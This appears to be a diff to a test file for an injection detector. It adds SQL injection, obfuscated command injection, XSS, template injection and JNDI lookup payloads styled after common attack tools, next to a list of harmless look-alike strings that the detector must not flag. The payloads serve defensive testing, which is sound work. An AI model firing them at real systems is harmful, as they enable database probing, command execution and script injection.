@@ -263,6 +263,18 @@ const ATTACKS: [category: string, payload: string][] = [
   ['cmdi', "for %f in (c:\\windows\\*) do type %f"],
   ['ldap', "admin)&(objectClass=*"],
   ['log4j', "${:-x$}{jndi:ldap://x.example/a}"],
+  // What attack tools send (session 11, written from how sqlmap, commix, XSStrike and nuclei templates build them).
+  ['sqli', '%1%\'%;%S%E%L%E%C%T %S%L%E%E%P%(%5%)%-%-'],
+  ['sqli', '1 WHERE 3418=3418e0UNION ALL SELECT NULL,NULL,NULL-- -'],
+  ['sqli', '(2203 RLIKE 2203)*5347'],
+  ['sqli', '1]-(SELECT 0 WHERE 5558=5558;IF(ASCII(SUBSTRING(DB_NAME(),1,1))>59) SELECT 9395 ELSE DROP FUNCTION x--'],
+  ['cmdi', ';${An}e${An}c${An}h${An}o ZMSDPO$(${An}i${An}d)ZMSDPO'],
+  ['xss', "'-confirm()//"],
+  ['xss', '")-a=prompt,a()//\\'],
+  ['xss', "'});-[8].find(confirm)//\\"],
+  ['xss', '[].sort.call`${alert}1337`'],
+  ['ssti', 'x%{128*128}'],
+  ['java', 'service:jmx:rmi:///jndi/ldap://127.0.0.1:1389/x'],
 ];
 
 const EVERYDAY: string[] = ["O'Brien", "Let's select a union rep", "SELECT * is bad practice, said Bob", "drop me a line", "1 + 1 = 2", "rock & roll", "C:\\Users\\bob\\Documents", "../README.md is mentioned in docs", "https://example.com/path?x=1&y=2", "<b>bold</b> text", "I <3 cats", "alert: the server is down", "price < 100 and > 50", "email me at a.b@example.com", "{\"a\":1}", "it's 5 o'clock; time to go", "cat and dog", "the union of sets A and B", "where are you? select one", "javascript is fun", "script kiddies", "onload handler in React", "${HOME} is an env var", "{{ name }} is a template", "ping me", "echo chamber", "wget is a tool", "user@host:~$ ls", "a || b", "x = y && z", "1=1 is true", "SELECT your plan", "--verbose flag", "edit /etc/hosts to add the api entry", "Tom & Jerry; and friends", "O'Reilly's \"book\"", "café — naïve", "emoji 🎉 party", "#hashtag @mention", "100% sure", "50% off!", "semicolon; separated; list", "path/to/file.txt", "grep -r foo .", "function(){ return 1; }", "a<b>c", "1' is a minute", "what's up -- nothing", "tools like ping & nslookup are handy", "in order by 5pm", "choose a size (select 1)", "he said \"it's fine\" (really).", "R&D & hostname changes", "① first, ② second", "sh is a shell", "wget & curl are tools", "for each of us, in (most) cases"];
